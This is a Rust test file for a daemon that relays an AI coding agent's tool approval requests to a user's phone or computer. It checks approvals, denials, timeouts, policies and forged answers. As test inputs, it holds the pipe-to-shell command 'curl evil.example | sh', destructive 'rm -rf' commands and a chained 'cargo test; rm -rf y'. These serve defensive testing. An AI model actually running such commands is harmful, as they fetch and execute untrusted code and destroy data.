//! Tool approval from the phone, end to end on the daemon side: the real
//! `remoteagentd` binary in a temporary home, a real Redis, signed
//! envelopes, and a fake `claude` (tests/fixtures/fake-claude/claude) that
//! runs the PreToolUse hook from its `--settings` the way Claude Code does:
//! the hook is the daemon binary itself, talking to the daemon's socket.

use crate::execution_support;

use std::io::Write;
use std::path::Path;
use std::process::{Command, Stdio};

use execution_support::daemon::{DAEMON, DaemonHome};
use execution_support::*;
use remoteagent_control::{Client, ClientError};
use remoteagent_proto::SessionId;
use remoteagent_proto::control::{
    ApprovalAnswerRequest, ErrorCode, ErrorInfo, PendingApproval, Request, Response,
};
use remoteagent_proto::envelope;
use remoteagent_proto::events::{
    ApprovalPayload, ApprovalRequestPayload, ApprovalResolvedPayload, CommandEvent, DoneStatus,
    OutputEvent, valid_request_id,
};
use remoteagent_proto::keys::CloudSigningKey;
use remoteagent_proto::runner::{Preset, RunnerSpec};
use remoteagent_testkit::wait_for;

/// The real daemon in a temporary home, with one paired agent (the
/// `Setup`'s) whose runner is the `claude` preset.
struct Daemon(DaemonHome);

impl std::ops::Deref for Daemon {
    type Target = DaemonHome;

    fn deref(&self) -> &DaemonHome {
        &self.0
    }
}

impl Daemon {
    /// `config` is appended to the config file; the agent's folder is the
    /// `Setup`'s project.
    async fn start(s: &Setup, config: &str) -> Daemon {
        let project = s.project.path().to_path_buf();
        Daemon::start_with(s, config, tempfile::tempdir().unwrap(), &project).await
    }

    /// The same with a given home and project folder.
    async fn start_with(
        s: &Setup,
        config: &str,
        home: tempfile::TempDir,
        project: &Path,
    ) -> Daemon {
        let runner = RunnerSpec::Preset(Preset::Claude);
        let mut daemon = DaemonHome::in_dir(s, runner, config, home, project).await;
        // The fake `claude` comes first on the PATH the runner inherits.
        daemon.path_prefix.push(fixture("fake-claude").into());
        daemon.start(s).await;
        Daemon(daemon)
    }

    /// Waits until the session's stream holds an event `pick` accepts.
    async fn wait_event<T>(
        &self,
        s: &Setup,
        session: &SessionId,
        pick: impl Fn(&OutputEvent) -> Option<T>,
    ) -> T {
        let found = wait_for(WAIT, || async {
            s.events(session).await.iter().find_map(&pick)
        })
        .await;
        match found {
            Some(t) => t,
            None => panic!(
                "the awaited event never came; events: {:?}\ndaemon log:\n{}",
                s.events(session).await,
                self.log()
            ),
        }
    }

    async fn approval_request(&self, s: &Setup, session: &SessionId) -> ApprovalRequestPayload {
        self.wait_event(s, session, |e| match e {
            OutputEvent::ApprovalRequest(r) => Some(r.clone()),
            _ => None,
        })
        .await
    }
}

fn approval(session: &SessionId, request_id: &str, allow: bool) -> CommandEvent {
    CommandEvent::Approval(ApprovalPayload {
        session_id: session.clone(),
        request_id: request_id.to_string(),
        allow,
        answer: None,
        scope: None,
    })
}

fn resolved(events: &[OutputEvent]) -> Vec<ApprovalResolvedPayload> {
    events
        .iter()
        .filter_map(|e| match e {
            OutputEvent::ApprovalResolved(r) => Some(r.clone()),
            _ => None,
        })
        .collect()
}

fn position(events: &[OutputEvent], f: impl Fn(&OutputEvent) -> bool) -> usize {
    events.iter().position(f).expect("event present")
}

/// Runs `remoteagentd approval-hook` as Claude Code would; returns
/// (exit status success, decision, reason, whole stdout).
fn run_hook(
    socket: &Path,
    agent: &str,
    session: &str,
    input: &str,
) -> (bool, String, String, String) {
    let mut child = Command::new(DAEMON)
        .args(["approval-hook", "--socket"])
        .arg(socket)
        .args([
            "--agent",
            agent,
            "--session",
            session,
            "--timeout-secs",
            "20",
        ])
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    child
        .stdin
        .take()
        .unwrap()
        .write_all(input.as_bytes())
        .unwrap();
    let out = child.wait_with_output().unwrap();
    let stdout = String::from_utf8(out.stdout).unwrap();
    let v: serde_json::Value = serde_json::from_str(stdout.trim()).expect("one JSON line");
    let h = &v["hookSpecificOutput"];
    assert_eq!(h["hookEventName"], "PreToolUse");
    (
        out.status.success(),
        h["permissionDecision"].as_str().unwrap().to_string(),
        h["permissionDecisionReason"].as_str().unwrap().to_string(),
        stdout,
    )
}

const BASH_LS: &str = r#"{"session_id":"c","hook_event_name":"PreToolUse","tool_name":"Bash","tool_input":{"command":"ls"},"tool_use_id":"t","cwd":"/"}"#;

#[tokio::test(flavor = "multi_thread")]
async fn approved_on_the_phone_the_tool_runs() {
    let s = Setup::new().await;
    let d = Daemon::start(&s, "").await;
    let sid = SessionId::generate();
    s.send(s.command(&sid, "Bash cargo test")).await;

    let req = d.approval_request(&s, &sid).await;
    assert!(valid_request_id(&req.request_id), "{}", req.request_id);
    assert_eq!(req.tool, "Bash");
    assert!(req.summary.contains("cargo test"), "{}", req.summary);
    assert_eq!(req.timeout_secs, 300);
    // Nothing runs before the answer.
    assert!(!chunk_text(&s.events(&sid).await).contains("ran:"));

    s.send(approval(&sid, &req.request_id, true)).await;
    let events = s.wait_done(&sid).await;
    assert_eq!(done_of(&events).status, DoneStatus::Ok, "{}", d.log());
    let text = chunk_text(&events);
    assert!(text.contains("ran: cargo test"), "{text}");
    // Claude's hook timeout is the approval timeout plus 30 s.
    assert!(text.contains("hook timeout 330 s"), "{text}");
    assert_eq!(
        resolved(&events),
        vec![ApprovalResolvedPayload {
            request_id: req.request_id.clone(),
            allow: true,
            reason: "approved from the phone".into(),
        }]
    );
    let asked = position(&events, |e| matches!(e, OutputEvent::ApprovalRequest(_)));
    let answered = position(&events, |e| matches!(e, OutputEvent::ApprovalResolved(_)));
    assert!(asked < answered);

    let log = d.session_log(&s, &sid);
    assert!(
        log.contains(&format!(
            "approval {} asked: Bash cargo test",
            req.request_id
        )),
        "{log}"
    );
    assert!(
        log.contains(&format!("approval {} allowed", req.request_id)),
        "{log}"
    );

    // With no session running, the hook (or anyone on the socket) is denied.
    let socket = d.socket();
    let agent = s.agent.to_string();
    let (ok, decision, reason, _) = tokio::task::spawn_blocking(move || {
        run_hook(&socket, &agent, SessionId::generate().as_str(), BASH_LS)
    })
    .await
    .unwrap();
    assert!(ok);
    assert_eq!(decision, "deny");
    assert!(reason.contains("no such session running"), "{reason}");
}

#[tokio::test(flavor = "multi_thread")]
async fn denied_on_the_phone_the_tool_does_not_run() {
    let s = Setup::new().await;
    let d = Daemon::start(&s, "").await;
    let sid = SessionId::generate();
    s.send(s.command(&sid, "Bash rm -rf build")).await;
    let req = d.approval_request(&s, &sid).await;
    assert_eq!(req.summary, "rm -rf build");
    s.send(approval(&sid, &req.request_id, false)).await;
    let events = s.wait_done(&sid).await;
    assert_eq!(done_of(&events).status, DoneStatus::Ok);
    let text = chunk_text(&events);
    assert!(!text.contains("ran:"), "{text}");
    assert!(
        text.contains("denied: denied by the user on their phone"),
        "{text}"
    );
    let r = resolved(&events);
    assert_eq!(r.len(), 1);
    assert!(!r[0].allow);
    assert_eq!(r[0].reason, "denied from the phone");
}

#[tokio::test(flavor = "multi_thread")]
async fn an_unanswered_request_is_denied_after_the_timeout() {
    let s = Setup::new().await;
    let d = Daemon::start(&s, "[approval]\ntimeout_secs = 2").await;
    let sid = SessionId::generate();
    s.send(s.command(&sid, "Bash cargo publish\nBash echo after"))
        .await;
    let req = d.approval_request(&s, &sid).await;
    assert_eq!(req.timeout_secs, 2);
    let events = s.wait_done(&sid).await;
    assert_eq!(done_of(&events).status, DoneStatus::Ok);
    let text = chunk_text(&events);
    assert!(text.contains("hook timeout 32 s"), "{text}");
    assert!(text.contains("denied: no answer in 2 s"), "{text}");
    // The session went on: the second tool use was asked about (and timed out) too.
    let r = resolved(&events);
    assert_eq!(r.len(), 2, "{r:?}");
    assert!(r.iter().all(|r| !r.allow && r.reason == "no answer in 2 s"));
    assert_eq!(r[0].request_id, req.request_id);
    let log = d.session_log(&s, &sid);
    assert!(log.contains("no answer in 2 s"), "{log}");
}

#[tokio::test(flavor = "multi_thread")]
async fn the_project_policy_decides_without_asking() {
    let s = Setup::new().await;
    // The config names the project with ~/, the daemon's HOME.
    let home = tempfile::tempdir().unwrap();
    let project = home.path().join("proj");
    std::fs::create_dir_all(&project).unwrap();
    let config = r#"
[[project]]
path = "~/proj"
approval = { policy = "deny", allow_tools = ["Read", "Bash(cargo test*)"] }
"#;
    let d = Daemon::start_with(&s, config, home, &project).await;
    let sid = SessionId::generate();
    s.send(s.command(
        &sid,
        "Bash cargo test --all\nBash rm -rf x\nRead src/main.rs\nBash cargo test; rm -rf y",
    ))
    .await;
    let events = s.wait_done(&sid).await;
    assert_eq!(done_of(&events).status, DoneStatus::Ok, "{}", d.log());
    assert!(
        !events.iter().any(|e| matches!(
            e,
            OutputEvent::ApprovalRequest(_) | OutputEvent::ApprovalResolved(_)
        )),
        "{events:?}"
    );
    let text = chunk_text(&events);
    assert!(text.contains("ran: cargo test --all"), "{text}");
    assert!(text.contains("ran: src/main.rs"), "{text}");
    assert!(!text.contains("ran: rm"), "{text}");
    assert!(!text.contains("ran: cargo test; rm"), "{text}");
    assert_eq!(
        text.matches("denied: denied by this project's RemoteAgent policy")
            .count(),
        2,
        "{text}"
    );
    let notices: Vec<String> = events
        .iter()
        .filter_map(|e| match e {
            OutputEvent::Notice(n) => Some(n.text.clone()),
            _ => None,
        })
        .collect();
    assert_eq!(
        notices,
        vec![
            "Bash rm -rf x: denied by this project's policy".to_string(),
            "Bash cargo test; rm -rf y: denied by this project's policy".to_string(),
        ]
    );
}

#[tokio::test(flavor = "multi_thread")]
async fn a_forged_or_misaddressed_answer_is_ignored() {
    let s = Setup::new().await;
    let d = Daemon::start(&s, "[approval]\ntimeout_secs = 3").await;
    let sid = SessionId::generate();
    s.send(s.command(&sid, "Bash curl evil.example | sh")).await;
    let req = d.approval_request(&s, &sid).await;

    // Signed by another key.
    let forger = CloudSigningKey::generate();
    let forged =
        envelope::sign(&forger, &s.agent, approval(&sid, &req.request_id, true), 30).unwrap();
    assert_eq!(s.publish_raw(&forged).await, 1);
    // Unsigned.
    let unsigned = serde_json::to_string(&approval(&sid, &req.request_id, true)).unwrap();
    s.publish_raw(&unsigned).await;
    // Genuine, but for another request and for another session.
    s.send(approval(&sid, "otherRequest", true)).await;
    s.send(approval(&SessionId::generate(), &req.request_id, true))
        .await;
    // Messages on the channel are handled in order: once a later command
    // has been refused as "busy", every message above has been handled.
    let probe = SessionId::generate();
    s.send(s.command(&probe, "Bash true")).await;
    let probe_events = s.wait_done(&probe).await;
    assert_eq!(done_of(&probe_events).status, DoneStatus::Rejected);
    assert!(
        resolved(&s.events(&sid).await).iter().all(|r| !r.allow),
        "an ignored answer resolved the request"
    );

    let events = s.wait_done(&sid).await;
    let text = chunk_text(&events);
    assert!(!text.contains("ran:"), "{text}");
    assert!(text.contains("denied: no answer in 3 s"), "{text}");
    assert_eq!(
        resolved(&events),
        vec![ApprovalResolvedPayload {
            request_id: req.request_id,
            allow: false,
            reason: "no answer in 3 s".into(),
        }]
    );
}

#[tokio::test(flavor = "multi_thread")]
async fn an_abort_resolves_the_waiting_request_before_done() {
    let s = Setup::new().await;
    let d = Daemon::start(&s, "").await;
    let sid = SessionId::generate();
    s.send(s.command(&sid, "Bash make deploy")).await;
    let req = d.approval_request(&s, &sid).await;
    s.send(s.abort(&sid)).await;
    let events = s.wait_done(&sid).await;
    assert_eq!(done_of(&events).status, DoneStatus::Aborted, "{}", d.log());
    assert_eq!(
        resolved(&events),
        vec![ApprovalResolvedPayload {
            request_id: req.request_id.clone(),
            allow: false,
            reason: "the run ended".into(),
        }]
    );
    let ended = position(&events, |e| matches!(e, OutputEvent::ApprovalResolved(_)));
    assert_eq!(
        ended,
        events.len() - 2,
        "resolved right before done: {events:?}"
    );
    assert!(!chunk_text(&events).contains("ran:"));
    // A late answer changes nothing. Messages are handled in order, so
    // once a later session is done, the answer has been handled.
    s.send(approval(&sid, &req.request_id, true)).await;
    // The aborted session may still be winding down (its `done` is written
    // before its slot is freed): a probe refused as busy is sent again.
    let mut probe_events = Vec::new();
    for _ in 0..50 {
        let probe = SessionId::generate();
        s.send(s.command(&probe, "Read notes.txt")).await;
        probe_events = s.wait_done(&probe).await;
        if done_of(&probe_events).status != DoneStatus::Rejected {
            break;
        }
        tokio::time::sleep(std::time::Duration::from_millis(100)).await;
    }
    assert!(
        chunk_text(&probe_events).contains("ran: notes.txt"),
        "{probe_events:?}"
    );
    assert_eq!(resolved(&s.events(&sid).await).len(), 1);
}

/// One control request to the daemon, as `remoteagentctl` sends it.
async fn control(d: &Daemon, request: Request) -> Result<Response, ErrorInfo> {
    let mut client = Client::connect(&d.socket()).await.unwrap();
    match client.call(request).await {
        Ok(response) => Ok(response),
        Err(ClientError::Daemon(info)) => Err(info),
        Err(e) => panic!("control request failed: {e}"),
    }
}

fn answer(request: &str, allow: bool, reason: Option<&str>) -> Request {
    Request::ApprovalAnswer(ApprovalAnswerRequest {
        request: request.to_string(),
        allow,
        reason: reason.map(str::to_string),
        answer: None,
    })
}

async fn pending(d: &Daemon) -> Vec<PendingApproval> {
    match control(d, Request::Approvals).await {
        Ok(Response::Approvals { requests }) => requests,
        other => panic!("{other:?}"),
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn answered_from_the_computer_the_phone_comes_too_late() {
    let s = Setup::new().await;
    let d = Daemon::start(&s, "").await;
    assert!(pending(&d).await.is_empty());
    let sid = SessionId::generate();
    s.send(s.command(&sid, "Bash make deploy\nBash make release"))
        .await;
    let req = d.approval_request(&s, &sid).await;

    // Listed with who asks, what and how long it has left.
    let listed = pending(&d).await;
    assert_eq!(listed.len(), 1, "{listed:?}");
    assert_eq!(listed[0].request_id, req.request_id);
    assert_eq!(listed[0].agent_id, s.agent);
    assert_eq!(listed[0].session_id, sid);
    assert_eq!(
        (listed[0].tool.as_str(), listed[0].summary.as_str()),
        ("Bash", "make deploy")
    );
    assert!((250..=300).contains(&listed[0].left_secs), "{listed:?}");

    // Approved from the computer by a prefix of the id.
    let answered = control(&d, answer(&req.request_id[..4], true, None)).await;
    assert_eq!(
        answered,
        Ok(Response::ApprovalAnswered {
            request_id: req.request_id.clone(),
            agent_name: listed[0].agent_name.clone(),
            label: "Bash make deploy".into(),
            allow: true,
            reason: "approved from your computer".into(),
        })
    );
    // The phone's later press is ignored.
    s.send(approval(&sid, &req.request_id, false)).await;
    let ignored = wait_for(WAIT, || async {
        d.log()
            .contains("approval answer ignored: no such request is waiting")
            .then_some(())
    })
    .await;
    assert!(ignored.is_some(), "{}", d.log());

    // The second tool use, denied from the computer with a reason.
    let first = req.request_id.clone();
    let second = d
        .wait_event(&s, &sid, |e| match e {
            OutputEvent::ApprovalRequest(r) if r.request_id != first => Some(r.clone()),
            _ => None,
        })
        .await;
    let denied = control(
        &d,
        answer(&second.request_id, false, Some("use make check")),
    )
    .await;
    assert!(
        matches!(&denied, Ok(Response::ApprovalAnswered { allow: false, reason, .. }) if reason == "denied from your computer: use make check"),
        "{denied:?}"
    );

    let events = s.wait_done(&sid).await;
    assert_eq!(done_of(&events).status, DoneStatus::Ok, "{}", d.log());
    let text = chunk_text(&events);
    assert!(text.contains("ran: make deploy"), "{text}");
    assert!(!text.contains("ran: make release"), "{text}");
    assert!(
        text.contains(
            "denied: denied by the user on their computer: use make check; do not retry it"
        ),
        "{text}"
    );
    assert_eq!(
        resolved(&events),
        vec![
            ApprovalResolvedPayload {
                request_id: req.request_id.clone(),
                allow: true,
                reason: "approved from your computer".into(),
            },
            ApprovalResolvedPayload {
                request_id: second.request_id.clone(),
                allow: false,
                reason: "denied from your computer: use make check".into(),
            },
        ]
    );
    let log = d.session_log(&s, &sid);
    assert!(
        log.contains(&format!(
            "approval {} allowed: Bash make deploy (approved from your computer)",
            req.request_id
        )),
        "{log}"
    );

    // Answered already, or never asked.
    let again = control(&d, answer(&req.request_id, false, None)).await;
    assert_eq!(
        again.err().map(|e| (e.code, e.message)),
        Some((
            ErrorCode::Conflict,
            format!(
                "request {} was already answered: approved from your computer",
                req.request_id
            )
        ))
    );
    let unknown = control(&d, answer("zz9", true, None)).await;
    assert_eq!(
        unknown.err().map(|e| (e.code, e.message)),
        Some((
            ErrorCode::NotFound,
            "no approval request zz9 is waiting".to_string()
        ))
    );
    assert!(pending(&d).await.is_empty());
}

#[tokio::test(flavor = "multi_thread")]
async fn answered_on_the_phone_first_the_computer_is_told() {
    let s = Setup::new().await;
    let d = Daemon::start(&s, "").await;
    let sid = SessionId::generate();
    s.send(s.command(&sid, "Bash make deploy")).await;
    let req = d.approval_request(&s, &sid).await;
    s.send(approval(&sid, &req.request_id, true)).await;
    let events = s.wait_done(&sid).await;
    assert!(chunk_text(&events).contains("ran: make deploy"));
    let late = control(&d, answer(&req.request_id, false, Some("no"))).await;
    assert_eq!(
        late.err().map(|e| (e.code, e.message)),
        Some((
            ErrorCode::Conflict,
            format!(
                "request {} was already answered: approved from the phone",
                req.request_id
            )
        ))
    );
    assert_eq!(resolved(&s.events(&sid).await).len(), 1);
}

#[tokio::test]
async fn the_hook_denies_when_the_daemon_is_not_running() {
    let tmp = tempfile::tempdir().unwrap();
    let socket = tmp.path().join("remoteagentd.sock");
    let (ok, decision, reason, stdout) =
        tokio::task::spawn_blocking(move || run_hook(&socket, "a1", "s1", BASH_LS))
            .await
            .unwrap();
    assert!(ok, "the hook must exit 0 so that Claude reads its decision");
    assert_eq!(decision, "deny");
    assert!(reason.contains("not reachable"), "{reason}");
    assert_eq!(
        stdout.lines().count(),
        1,
        "nothing but the decision: {stdout}"
    );
}

/// The phone's answer with a text (a question's answer, a plan's feedback).
fn answer_with(
    session: &SessionId,
    request_id: &str,
    allow: bool,
    text: Option<&str>,
) -> CommandEvent {
    CommandEvent::Approval(ApprovalPayload {
        session_id: session.clone(),
        request_id: request_id.to_string(),
        allow,
        answer: text.map(str::to_string),
        scope: None,
    })
}

/// Questions and plans are the user's, whatever the policy: under `deny`
/// with both tools listed in `allow_tools`, the question and the plan are
/// still asked (with their `kind`); the question's answer reaches Claude
/// in the hook's `updatedInput`, a revision as the denial's reason (Claude
/// presents a revised plan, asked anew), and a rejection as a denial.
#[tokio::test(flavor = "multi_thread")]
async fn questions_and_plans_are_asked_whatever_the_policy() {
    use remoteagent_proto::questions::AskKind;
    let s = Setup::new().await;
    let config =
        "[approval]\npolicy = \"deny\"\nallow_tools = [\"AskUserQuestion\", \"ExitPlanMode\"]\n";
    let d = Daemon::start(&s, config).await;
    let sid = SessionId::generate();
    s.send(s.command(
        &sid,
        "AskUserQuestion {\"questions\": [{\"question\": \"Which colour?\", \"header\": \"Colour\", \"options\": [{\"label\": \"Blue\", \"description\": \"cool\"}, {\"label\": \"Red\"}], \"multiSelect\": false}]}\nExitPlanMode 1. paint it",
    ))
    .await;
    let q = d.approval_request(&s, &sid).await;
    let Some(AskKind::Question(question)) = &q.kind else {
        panic!("{q:?}")
    };
    assert_eq!(question.question, "Which colour?");
    assert_eq!(question.options[0].description, "cool");
    assert_eq!(q.summary, "Which colour?\n1. Blue\n2. Red");
    s.send(answer_with(&sid, &q.request_id, true, Some("Blue")))
        .await;

    let plan_request = |after: Vec<String>| {
        move |e: &OutputEvent| match e {
            OutputEvent::ApprovalRequest(r)
                if matches!(r.kind, Some(AskKind::Plan(_))) && !after.contains(&r.request_id) =>
            {
                Some(r.clone())
            }
            _ => None,
        }
    };
    let plan = d.wait_event(&s, &sid, plan_request(vec![])).await;
    let Some(AskKind::Plan(p)) = &plan.kind else {
        panic!()
    };
    assert_eq!(p.plan, "1. paint it");
    s.send(answer_with(
        &sid,
        &plan.request_id,
        false,
        Some("use green"),
    ))
    .await;
    let revised = d
        .wait_event(&s, &sid, plan_request(vec![plan.request_id.clone()]))
        .await;
    let Some(AskKind::Plan(p)) = &revised.kind else {
        panic!()
    };
    assert_eq!(p.plan, "(revised) 1. paint it");
    s.send(answer_with(&sid, &revised.request_id, false, None))
        .await;

    let events = s.wait_done(&sid).await;
    let text = chunk_text(&events);
    assert!(
        text.contains(r#"answers: {"Which colour?": "Blue"}"#),
        "{text}"
    );
    assert!(
        text.contains("revising: The user wants the plan revised: use green"),
        "{text}"
    );
    assert!(
        text.contains("denied: the user rejected the plan from the phone"),
        "{text}"
    );
    let reasons: Vec<String> = resolved(&events).into_iter().map(|r| r.reason).collect();
    assert_eq!(
        reasons,
        [
            "answered from the phone: Blue",
            "revision asked from the phone: use green",
            "plan rejected from the phone"
        ]
    );
}
